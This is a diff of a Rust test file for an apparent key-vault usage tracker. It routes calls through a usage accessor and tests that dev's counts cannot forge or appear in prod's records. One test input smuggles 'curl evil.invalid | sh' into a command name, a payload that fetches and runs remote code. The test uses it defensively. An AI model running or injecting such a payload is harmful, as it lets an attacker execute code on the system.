@@ -6,11 +6,12 @@ use ibyok_policy::{Scope, Scopes};
 use jiff::{SignedDuration, Timestamp};
 
 use crate::forging::{Scene, scene};
+use crate::gate::meter::Ended;
 use crate::model::kind;
 use crate::model::name::KeyId;
 use crate::realm::Realm;
 use crate::usage::rollup::{Of, Rollup, RollupId, Row, Subject, seal_body};
-use crate::usage::tally::{Ended, Tally};
+use crate::usage::tally::Tally;
 use crate::usage::{Caller, UsageBy, UsageItem, UsageRequest, day_of};
 
 impl Scene {
@@ -61,9 +62,9 @@ async fn devs_counts_are_none_of_prods() {
     scene
         .count(Subject::Key(scene.key(&scene.dev)), read_once(of, "forged"))
         .await;
-    let consumers = inner.consumers(&scene.prod, key).await.unwrap();
+    let consumers = inner.usage.consumers(&scene.prod, key).await.unwrap();
     assert!(consumers.readers.is_empty() && consumers.damaged == 0, "{consumers:?}");
-    assert!(inner.use_of(&scene.prod, worker).await.unwrap().last.is_none());
+    assert!(inner.usage.use_of(&scene.prod, worker).await.unwrap().last.is_none());
     for by in [UsageBy::Token, UsageBy::Key, UsageBy::Env] {
         let report = scene
             .vault
@@ -80,7 +81,7 @@ async fn devs_counts_are_none_of_prods() {
     // In the place of one of prod's: it does not open, is counted as damaged, and names nobody.
     let id = RollupId::of(Subject::Key(key), day_of(Timestamp::now()), [9; 5], 0).bytes();
     scene.put_devs_in_prods_place(kind::KEY_USE, id, b"{}").await;
-    let consumers = inner.consumers(&scene.prod, key).await.unwrap();
+    let consumers = inner.usage.consumers(&scene.prod, key).await.unwrap();
     assert!(consumers.readers.is_empty() && consumers.damaged == 1, "{consumers:?}");
 }
 
@@ -95,7 +96,7 @@ async fn devs_counts_of_a_token_of_dev_name_no_key_of_prod_and_no_command_of_the
     };
     let prods = read_once(of("prod", &scene.prod), "openai");
     scene.count(Subject::Token(laptop), prods).await;
-    let used = scene.vault.inner.use_of(&scene.dev, laptop).await.unwrap();
+    let used = scene.vault.inner.usage.use_of(&scene.dev, laptop).await.unwrap();
     assert!(used.environments.is_empty() && used.keys.is_empty(), "{used:?}");
 
     let command = read_once(of("dev", &scene.dev), "openai; curl evil.invalid | sh");
@@ -123,7 +124,7 @@ async fn a_sign_of_life_under_devs_keys_hides_and_invents_no_node_of_prod() {
         .seal_record(&scene.dev.place(&devs), sign.as_bytes())
         .unwrap();
     scene.write(&devs, &sealed).await;
-    let of = async |realm: &Arc<Realm>| inner.consumers(realm, scene.key(realm)).await.unwrap();
+    let of = async |realm: &Arc<Realm>| inner.usage.consumers(realm, scene.key(realm)).await.unwrap();
     assert_eq!(of(&scene.dev).await.behind.len(), 1, "in dev it is believed");
     assert!(of(&scene.prod).await.behind.is_empty());
     scene
